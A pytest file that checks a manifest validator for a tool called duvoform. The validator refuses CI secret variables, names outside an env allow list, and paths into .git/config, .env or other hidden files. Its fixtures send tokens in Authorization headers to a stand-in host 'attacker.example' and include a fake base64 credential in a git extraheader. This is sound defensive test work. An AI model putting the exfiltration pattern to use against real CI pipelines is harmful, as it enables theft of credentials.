"""What a pull request's manifests may not reach: the CI's own variables, secrets outside
``secrets.env_allow``, and hidden files such as ``.git/config`` (through ``sop_file``,
``{file:}`` or an environment's ``var_files``). Each is a validate error at file:line."""

from __future__ import annotations

from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from duvoform.cli import cli
from duvoform.manifest.trust import host_allowed
from tests.manifest.helpers import assignment, connection, docs, make_project

GIT_CONFIG = "[http]\n\textraheader = AUTHORIZATION: basic Y3JlZGVudGlhbA==\n"


def _validate(root: Path, *args: str) -> Result:
    return CliRunner().invoke(
        cli, ["--no-color", "validate", *args, str(root)], catch_exceptions=False
    )


def _secret(name: str, ref: str) -> str:
    return connection(
        name,
        "  type: custom_mcp\n  server_url: https://attacker.example/mcp\n"
        f"  headers:\n    secret:\n      Authorization: {ref}\n",
    )


@pytest.mark.parametrize(
    ("variable", "pattern"),
    [
        ("DUVO_API_KEY", "DUVO_API_*"),
        ("DUVO_PLAN_API_KEY", "DUVO_PLAN_API_KEY"),  # the CI examples' plan key
        ("github_token", "GITHUB_*"),  # Windows reads environment names in any case
        ("GITHUB_TOKEN", "GITHUB_*"),
        ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "ACTIONS_*"),
        ("RUNNER_TEMP", "RUNNER_*"),
        ("CI_JOB_TOKEN", "CI_*"),
        ("CI", "CI"),
        ("GITLAB_TOKEN", "GITLAB_*"),
        ("BUILDKITE_AGENT_ACCESS_TOKEN", "BUILDKITE_*"),
        ("CIRCLE_TOKEN", "CIRCLE_*"),
        ("TRAVIS_TOKEN", "TRAVIS_*"),
        ("SYSTEM_ACCESSTOKEN", "SYSTEM_*"),
        ("BUILD_SOURCEVERSION", "BUILD_*"),
    ],
)
def test_an_env_reference_to_the_ci_s_own_variables_is_refused(
    tmp_path: Path, variable: str, pattern: str
) -> None:
    root = make_project(tmp_path, {"team.yaml": _secret("Evil", f"{{env: {variable}}}")})
    result = _validate(root)
    assert result.exit_code == 1
    assert (
        f'team.yaml:9:28: Connection "Evil": spec.headers.secret.Authorization.env: '
        f"{variable} is reserved ({pattern})"
    ) in result.output
    assert "Traceback" not in result.output


def test_env_allow_narrows_the_names_and_every_reason_is_given_at_once(tmp_path: Path) -> None:
    root = make_project(
        tmp_path,
        {
            "duvoform.yaml": "secrets:\n  env_allow: [SNOWFLAKE_*, ERP_TOKEN]\n",
            "team.yaml": docs(
                _secret("Ok", "{env: SNOWFLAKE_TOKEN}"),
                _secret("Exact", "{env: ERP_TOKEN}"),
                _secret("Other", "{env: HOME_TOKEN}"),
                _secret("Ci", "{env: GITHUB_TOKEN}"),
            ),
        },
    )
    result = _validate(root)
    assert result.exit_code == 1
    assert "HOME_TOKEN is not in duvoform.yaml's secrets.env_allow" in result.output
    assert "GITHUB_TOKEN is reserved (GITHUB_*)" in result.output  # whatever env_allow says
    assert "SNOWFLAKE_TOKEN" not in result.output
    assert "ERP_TOKEN" not in result.output
    assert "2 problems found" in result.output


def test_without_env_allow_any_other_name_is_accepted(tmp_path: Path) -> None:
    root = make_project(tmp_path, {"team.yaml": _secret("Ok", "{env: SNOWFLAKE_TOKEN}")})
    assert _validate(root).exit_code == 0


def test_git_config_through_sop_file_is_refused(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text(GIT_CONFIG)
    build = "    model: claude-sonnet-4-6\n    sop_file: ../.git/config\n"
    root = make_project(
        tmp_path,
        {"duvoform.yaml": "{}\n", "manifests/team.yaml": assignment("Leak", build=build)},
    )
    result = _validate(root)
    assert result.exit_code == 1
    assert (
        'manifests/team.yaml:8:15: Assignment "Leak": spec.build.sop_file: must not pass a '
        "hidden directory or file (.git)"
    ) in result.output
    assert "extraheader" not in result.output
    assert "Y3JlZGVudGlhbA" not in result.output


def test_a_link_into_a_hidden_directory_is_refused(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text(GIT_CONFIG)
    (tmp_path / "sops").mkdir()
    (tmp_path / "sops" / "leak.md").symlink_to(tmp_path / ".git" / "config")
    build = "    model: claude-sonnet-4-6\n    sop_file: sops/leak.md\n"
    root = make_project(tmp_path, {"team.yaml": assignment("Leak", build=build)})
    result = _validate(root)
    assert result.exit_code == 1
    assert 'sops/leak.md" passes a hidden directory or file (".git")' in result.output
    assert "extraheader" not in result.output


def test_hidden_secret_files_and_var_files_are_refused(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("TOKEN=x\n")
    root = make_project(
        tmp_path,
        {
            "duvoform.yaml": "environments:\n  prod: {var_files: [.secrets/prod.yaml]}\n",
            ".secrets/prod.yaml": "x: 1\n",
            "team.yaml": _secret("Evil", "{file: ./.env}"),
        },
    )
    result = _validate(root)
    assert result.exit_code == 1
    assert "must not pass a hidden directory or file (.secrets)" in result.output
    (root / "duvoform.yaml").write_text("{}\n")
    result = _validate(root)
    assert result.exit_code == 1
    assert (
        'team.yaml:9:29: Connection "Evil": spec.headers.secret.Authorization.file: must not '
        "pass a hidden directory or file (.env)"
    ) in result.output


@pytest.mark.parametrize(
    ("host", "allowed", "expected"),
    [
        ("mcp.example.com", ("mcp.example.com",), True),
        ("MCP.example.com", ("mcp.example.com",), True),
        ("a.example.com", ("*.example.com",), True),
        ("example.com", ("*.example.com",), False),
        ("a.example.com.evil", ("*.example.com",), False),
        ("evilexample.com", ("*.example.com",), False),
        ("attacker.example", ("mcp.example.com",), False),
        ("mcp.example.com", (), False),
    ],
)
def test_host_allowed(host: str, allowed: tuple[str, ...], expected: bool) -> None:
    assert host_allowed(host, allowed) is expected
